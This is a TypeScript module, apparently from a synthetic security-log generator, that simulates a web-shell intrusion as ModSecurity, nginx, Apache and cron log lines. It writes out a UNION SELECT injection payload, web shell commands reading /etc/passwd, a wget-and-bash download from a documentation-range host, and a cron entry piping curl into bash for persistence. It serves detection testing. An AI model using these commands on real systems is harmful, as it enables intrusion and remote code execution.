import { errorTime, forwarded, type Happening, type Line } from '../line.ts'
import { apacheLine, modsecurityLine, nginxLine } from '../lines/web.ts'

const scanner = 'sqlmap/1.8.11#stable (https://sqlmap.org)'
const browser = 'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36'

/** Injections at the portal, an upload that goes through, and a web shell that is used. */
export const webShell: Happening = (world, at) => {
  const { random } = world
  const from = `203.0.113.${random.whole(2, 30)}`
  const lines: Line[] = []
  let time = at
  for (let i = 0; i < 60; i++) {
    const path = `/tin-tuc/danh-sach?trang=${i}%27%20UNION%20SELECT%20NULL,version(),NULL--%20-`
    lines.push(
      modsecurityLine(
        world,
        time,
        'waf-01',
        {
          id: 942_190,
          message: 'Detects MSSQL code execution and information gathering attempts',
          data: `Matched Data: UNION SELECT found within ARGS:trang: ${i}' UNION SELECT NULL,version(),NULL-- -`,
          file: 'REQUEST-942-APPLICATION-ATTACK-SQLI.conf',
        },
        { from, path: decodeURIComponent(path) },
      ),
      nginxLine(time + 5, 'waf-01', { from, path: decodeURIComponent(path), status: 403, bytes: 548, agent: scanner }),
    )
    time += random.whole(200, 700)
  }
  const shell = '/uploads/2026/anh-dai-dien.php'
  const ask = (after: number, method: string, path: string, status: number, bytes: number) => {
    const request = { from, method, path, status, bytes, agent: browser }
    lines.push(nginxLine(time + after, 'cong-dvc-01', request), apacheLine(time + after + 3, 'web-01', request))
  }
  ask(20_000, 'POST', '/quan-tri/tai-len?loai=anh', 200, 182)
  ask(24_000, 'GET', shell, 200, 21)
  const commands = [
    'whoami',
    'id',
    'cat /etc/passwd',
    'uname -a',
    'wget http://203.0.113.9/x.sh -O /tmp/.x',
    'bash /tmp/.x',
  ]
  for (const [index, command] of commands.entries())
    ask(40_000 + index * 9000, 'GET', `${shell}?cmd=${command}`, 200, 64 + index * 211)
  lines.push(
    forwarded(
      time + 61_000,
      187,
      'web-01',
      'apache2',
      `[${errorTime(time + 61_000)}] [php:warn] [pid 2290] [client ${from}:40022] PHP Warning:  system(): Cannot execute a blank command in /var/www/html${shell} on line 1`,
    ),
    forwarded(time + 95_000, 78, 'web-01', 'crontab[9921]', '(www-data) REPLACE (www-data)'),
    forwarded(
      time + 99_000,
      78,
      'web-01',
      'CRON[9950]',
      '(www-data) CMD (/usr/bin/curl -s http://203.0.113.9/x.sh | bash)',
    ),
  )
  return lines
}
